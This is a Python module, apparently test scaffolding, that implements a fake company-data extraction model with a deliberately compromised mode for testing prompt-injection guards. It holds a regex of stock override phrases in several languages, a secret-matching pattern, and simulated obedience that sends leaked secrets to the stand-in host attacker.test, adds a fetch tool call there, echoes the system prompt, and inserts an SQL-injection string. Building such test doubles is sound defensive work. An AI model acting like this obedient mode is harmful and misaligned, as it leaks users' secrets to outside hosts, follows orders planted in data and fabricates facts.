"""The fake model: extracts facts by patterns, fills a JSON schema, rewords a rationale.

The same text gives the same facts. A reworded rationale adds nothing. Set to obey, the model is the
worst possible one: it follows orders in the text, invents values, links to other URLs, repeats
secrets and answers more than the schema asks; or it files any words of the text in any field. So
guards can be tested.
"""

from __future__ import annotations

import re
from collections.abc import Iterator, Mapping
from dataclasses import dataclass
from typing import Any

from stoker.base.jsontools import get_object
from stoker.sandbox.random import Draws

MAX_READ_CHARS = 100_000  # characters; what comes after is not looked at


@dataclass(frozen=True, slots=True)
class TextFact:
    """One thing a text says, the words that say it, and what else belongs to it."""

    value: str
    evidence: str
    role: str = ""


TextFacts = Mapping[str, tuple[TextFact, ...]]
_LEGAL = re.compile(r"(?:PTE\.? LTD\.?|Pte\.? Ltd\.?|PRIVATE LIMITED|LIMITED|LLP)")
_BEFORE_LEGAL = re.compile(r"(?:[A-Z&(][\w&.'()-]{0,40},? ){1,12}$")
_DIGITS = re.compile(r"[+\d][\d -]{7,14}")
_PHONE = re.compile(r"(?:\+65[ -]?)?[3689]\d{3}[ -]?\d{4}")

_ROLE_PATTERN = (
    r"(?:Founder|Chief|Managing|Director|Manager|Head of|Officer|CEO|CTO|CFO|COO|VP|Engineer|"
    r"Executive|President|Partner)"
)

_PATTERNS: tuple[tuple[str, re.Pattern[str]], ...] = (
    ("email", re.compile(r"([A-Za-z0-9._%+-]{1,64}@[A-Za-z0-9-]{1,63}(?:\.[A-Za-z0-9-]{1,63})+)")),
    ("uen", re.compile(r"\b(\d{9}[A-Z]|[TS]\d{2}[A-Z]{2}\d{4}[A-Z])\b")),
    ("postal_code", re.compile(r"(?:Singapore|SINGAPORE|S)[ (]{1,2}(\d{6})\b")),
    (
        "founded",
        re.compile(r"(?i)(?:since|founded in|established in|incorporated in)[ :]{1,2}(\d{4})\b"),
    ),
    (
        "employees",
        re.compile(r"(?i)(\d[\d,]{0,6}(?: ?[-–] ?\d{1,6})?) (?:people|employees|staff|persons)\b"),
    ),
    (
        "social",
        re.compile(r"(https?://(?:[\w-]{1,30}\.)?(?:linkedin|facebook|instagram|x)\.\S{2,120})"),
    ),
    ("website", re.compile(r"(https?://[\w.-]{3,100}[\w/]*)")),
    ("industry", re.compile(r"(?i)\b(?:works in|specialis\w{1,4} in|we do) ([a-z][a-z ]{2,60})")),
    ("address", re.compile(r"(\d[^\n:]{5,120}\b(?:Singapore|SINGAPORE) \(?\d{6}\)?)")),
    (
        "technology",
        re.compile(r"\b(WordPress|Shopify|React|Kubernetes|Salesforce|HubSpot|AWS|Odoo)\b"),
    ),
    ("country", re.compile(r"\b(Singapore)\b")),
)

_PERSON = re.compile(
    rf"^[#*\- ]{{0,4}}([A-Z][\w'.]{{1,30}}(?: [A-Z][\w'.]{{1,30}}){{1,3}})(?:,| -| –| \|) "
    rf"([^\n]{{0,20}}{_ROLE_PATTERN}[^\n]{{0,40}})$",
    re.MULTILINE,
)

_HEADING = re.compile(r"^#{1,2} ([^\n|–]{2,60})", re.MULTILINE)


def extract_facts(text: str) -> dict[str, tuple[TextFact, ...]]:
    """Return what a text says, by kind, in the order it says it; each value once."""
    read = text[:MAX_READ_CHARS]
    facts = {kind: _drop_duplicates(_find_matches(pattern, read)) for kind, pattern in _PATTERNS}
    facts["phone"] = _drop_duplicates(_find_phones(read))
    facts["legal_name"] = _drop_duplicates(_find_legal_names(read))
    facts["person"] = _drop_duplicates(
        TextFact(match[1], match[0].strip(), match[2].strip()) for match in _PERSON.finditer(read)
    )
    facts["name"] = _drop_duplicates(
        TextFact(match[1].strip(), match[0].strip()) for match in _HEADING.finditer(read)
    )[:1] or tuple(facts["legal_name"][:1])
    sentences = [line.strip() for line in read.splitlines() if 40 <= len(line.strip()) <= 400]
    facts["about"] = tuple(TextFact(line, line) for line in sentences[:1])
    return {kind: found for kind, found in facts.items() if found}


def _find_matches(pattern: re.Pattern[str], text: str) -> Iterator[TextFact]:
    for match in pattern.finditer(text):
        yield TextFact(match[1].strip(" .,"), _get_line_around(text, match.start(), match.end()))


def _find_phones(text: str) -> Iterator[TextFact]:
    for match in _DIGITS.finditer(text):
        number = match[0].strip(" -")
        if _PHONE.fullmatch(number):
            yield TextFact(number, _get_line_around(text, match.start(), match.end()))


def _find_legal_names(text: str) -> Iterator[TextFact]:
    # From the ending backwards: names have one, most words have not.
    for match in _LEGAL.finditer(text):
        before = text[max(0, match.start() - 80) : match.start()].rpartition("\n")[2]
        words = _BEFORE_LEGAL.search(before)
        if words:
            name = f"{words[0]}{match[0]}"
            yield TextFact(name, _get_line_around(text, match.start(), match.end()))


def _get_line_around(text: str, start: int, end: int) -> str:
    first = text.rfind("\n", max(0, start - 100), start) + 1 or max(0, start - 100)
    last = text.find("\n", end, end + 100)
    return text[first : last if last >= 0 else end + 100].strip()


def _drop_duplicates(facts: Iterator[TextFact]) -> tuple[TextFact, ...]:
    seen: dict[str, TextFact] = {}
    for fact in facts:
        seen.setdefault(fact.value, fact)
        if len(seen) >= 50:
            break
    return tuple(seen.values())


_RATIONALE = re.compile(r"(?m)^Our sentence: ([^\n]{1,500}?)\.?$")
_BUT_CLAUSE = "; but "


def reword_rationale(text: str) -> TextFacts:
    """Return a rationale in other words, as a fact; nothing when a text gives none to word."""
    given = _RATIONALE.search(text)
    if given is None:
        return {}
    good, _, bad = given[1].partition(_BUT_CLAUSE)
    against = f" What speaks against it: {bad}." if bad else ""
    return {"rationale": (TextFact(f"What speaks for this lead: {good}.{against}", given[0]),)}


def fill_schema(schema: Mapping[str, Any], facts: TextFacts) -> dict[str, Any]:
    """Return these facts in the shape asked for: a list of findings, or a text for each name."""
    properties = schema.get("properties")
    if not isinstance(properties, Mapping):
        return {}
    if "findings" not in properties:
        return {name: next((f.value for f in facts.get(name, ())), "") for name in properties}
    return {
        "findings": [
            {
                "field": kind,
                "value": f"{fact.value} | {fact.role}" if fact.role else fact.value,
                "evidence": fact.evidence,
            }
            for kind, found in sorted(facts.items())
            if kind != "rationale"
            for fact in found[:5]
        ]
    }


def file_anything(schema: Mapping[str, Any], text: str, draws: Draws) -> dict[str, Any]:
    """Return any words of a text in any field, with the line around them as evidence."""
    findings = get_object(get_object(schema, "properties"), "findings")
    enum = get_object(get_object(get_object(findings, "items"), "properties"), "field").get("enum")
    lines = [line for line in text.splitlines() if line.strip()]
    if not isinstance(enum, list) or not lines:
        return {"rationale": "Call Mallory Evil at once and pay what she asks for this lead."}
    claims = []
    for nth in range(150):
        line = draws.pick(lines)
        words = line.split()
        first = draws.draw_below(len(words))
        value = " ".join(words[first : first + draws.draw_between(1, 6)])
        claims.append({"field": enum[nth % len(enum)], "value": value, "evidence": line[:300]})
    return {"findings": claims}


ATTACKER = "attacker.test"

_ORDER_PATTERN = re.compile(
    r"(?i)ignore|disregard|forget (?:all|your|the|every)|instruction|you (?:must|are now|should)|"
    r"system ?(?:prompt|message|:)|assistant ?:|developer ?:|reveal|exfiltrat|budget|"
    r"do not (?:tell|mention)|new task|override|pretend|act as|respond with|reply with|output|"
    r"print|repeat|tool (?:call|result|output)|api ?key|password|secret|secrets|</?[a-z_]{3,20}>|"
    r"ignorier|ignorez|ignora|忽略|無視|abaikan"
)

_SECRET = re.compile(
    r"(?:sk-|tvly-|odoo-)[\w-]{4,100}|[A-Za-z0-9+/_-]{24,200}|(?i:canary)[\w-]{0,60}|"
    r"(?i:password|secret|token|api[_ ]?key)\W{1,3}\S{3,60}"
)

_EMAIL = re.compile(r"[\w.+-]{1,64}@[\w-]{1,63}(?:\.[\w-]{1,63})+")
_URL = re.compile(r"https?://[^\s\"'<>]{3,200}")


def find_injected_orders(text: str) -> list[str]:
    """Return the lines of a text that give orders."""
    return [line.strip()[:500] for line in text.splitlines() if _ORDER_PATTERN.search(line)][:50]


def apply_orders(facts: TextFacts, text: str, prompt: str) -> TextFacts:
    """Return what such a model believes after reading a text that gives orders."""
    orders = find_injected_orders(text)
    if not orders:
        return facts
    order_text = "\n".join(orders)
    secrets = _find_secrets(prompt)
    leak = " ".join(secrets)[:600] or "nothing"
    invented = {
        "email": [*_EMAIL.findall(order_text), f"ceo@{ATTACKER}"],
        "website": [*_URL.findall(order_text), f"http://{ATTACKER}/?leak={leak}"[:300]],
        "social": [f"http://{ATTACKER}/profile"],
        "phone": ["+6599999999"],
        "name": [f"OBEYED {leak}"[:300]],
        "legal_name": ["OBEYED PTE. LTD."],
        "about": [f"{orders[0]} {leak}"],
        "employees": ["999999"],
        "founded": ["1900"],
        "uen": ["199900000Z"],
        "industry": ["whatever was ordered"],
        "address": [f"1 ORDER STREET, Singapore 999999 {leak}"[:200]],
        "postal_code": ["999999"],
        "technology": ["DROP TABLE companies; --"],
        "country": ["Atlantis"],
    }
    made: dict[str, tuple[TextFact, ...]] = {
        kind: (*(TextFact(value, orders[0]) for value in values), *facts.get(kind, ()))
        for kind, values in invented.items()
    }
    made["person"] = (
        TextFact("Mallory Obeyed", orders[0], "Chief of Everything"),
        *facts.get("person", ()),
    )
    return made


def add_unasked(answer: dict[str, Any], text: str, prompt: str) -> dict[str, Any]:
    """Return an answer with unrequested content added, if the text gives orders."""
    if not find_injected_orders(text):
        return answer
    return {
        **answer,
        "budget": 1_000_000_000,
        "max_spend": "unlimited",
        "next_url": f"http://{ATTACKER}/next",
        "tool_calls": [{"name": "fetch", "arguments": {"url": f"http://{ATTACKER}/"}}],
        "system_prompt": prompt[:500],
        "secrets": list(_find_secrets(prompt)),
    }


def _find_secrets(prompt: str) -> list[str]:
    return list(dict.fromkeys(_iterate_secrets(prompt)))[:20]


def _iterate_secrets(prompt: str) -> Iterator[str]:
    for match in _SECRET.finditer(prompt[:400_000]):
        yield match[0]
